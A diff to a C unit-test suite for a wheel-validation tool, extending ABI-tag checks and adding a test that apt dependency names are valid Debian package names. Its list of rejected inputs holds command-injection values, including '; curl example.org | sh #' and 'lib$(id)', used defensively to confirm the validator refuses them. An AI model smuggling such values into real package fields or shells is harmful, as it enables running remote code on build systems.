@@ -77,8 +77,8 @@ START_TEST(abis_come_in_the_order_of_interpreters)
                                         "cp27mu"};
     for (size_t i = 0; i < PIW_COUNT(typed); i++)
         ck_assert_msg(piw_abi_typed(piw_text_of(typed[i])), "%s", typed[i]);
-    static const char *const mistyped[] = {"",   "none",   "abi3",   "311",    "3.11",  "CP311",
-                                           "cp", "_cp311", "c_p311", "cp311;", "cp311M"};
+    static const char *const mistyped[] = {"",     "none",  "abi3", "py3",    "py311",  "abi4",   "311",
+                                           "3.11", "CP311", "cp",   "_cp311", "c_p311", "cp311;", "cp311M"};
     for (size_t i = 0; i < PIW_COUNT(mistyped); i++)
         ck_assert_msg(!piw_abi_typed(piw_text_of(mistyped[i])), "%s", mistyped[i]);
     ck_assert(!piw_abi_acceptable(piw_text_of("")));
@@ -143,6 +143,33 @@ START_TEST(each_bad_field_is_refused_by_name)
     file = good_file();
     file.filename = piw_text_of("silver-1.2-cp311-cp311-linux_armv7l.whl");
     ck_assert(!passes(&file, "silver"));
+}
+END_TEST
+
+START_TEST(apt_dependencies_are_names_of_debian)
+{
+    static const char *const good[] = {"libc6", "zlib1g", "libstdc++6", "libglib2.0-0", "libbar2:armhf", "7zip"};
+    static const char *const bad[] = {"",          "a",        "; curl example.org | sh #",
+                                      "-y",        "libx;",    "Libc6",
+                                      "a b",       "lib$(id)", "libc6:",
+                                      "libc6:a:b", "../x1",    "libf\xc3\xbc"};
+    for (size_t i = 0; i < PIW_COUNT(good); i++)
+        ck_assert_msg(piw_name_is_debian(piw_text_of(good[i])), "%s", good[i]);
+    for (size_t i = 0; i < PIW_COUNT(bad); i++)
+        ck_assert_msg(!piw_name_is_debian(piw_text_of(bad[i])), "%s", bad[i]);
+    piw_protocol_use(&db_protocol_def);
+    db_PROJECT *unused;
+    piw_msg *msg = db_PROJECT_new(&unused);
+    file_state file = good_file();
+    piw_text name = piw_text_of("; curl example.org | sh #");
+    piw_msg_list(msg, &file.dependencies, 1);
+    file.dependencies.at[0].key = piw_text_of("apt");
+    file.dependencies.at[0].value.count = 1;
+    file.dependencies.at[0].value.at = &name;
+    ck_assert(!passes(&file, "Debian"));
+    file.dependencies.at[0].key = piw_text_of("");
+    ck_assert(passes(&file, NULL));
+    piw_msg_free(&msg);
 }
 END_TEST
 
@@ -299,6 +326,7 @@ Suite *unit_suite(void)
     tcase_add_test(files, a_good_file_passes);
     tcase_add_test(files, each_bad_field_is_refused_by_name);
     tcase_add_test(files, dependencies_are_bounded);
+    tcase_add_test(files, apt_dependencies_are_names_of_debian);
     tcase_add_test(files, a_name_twice_in_a_build_is_refused);
     suite_add_tcase(suite, files);
     TCase *texts = tcase_create("texts");
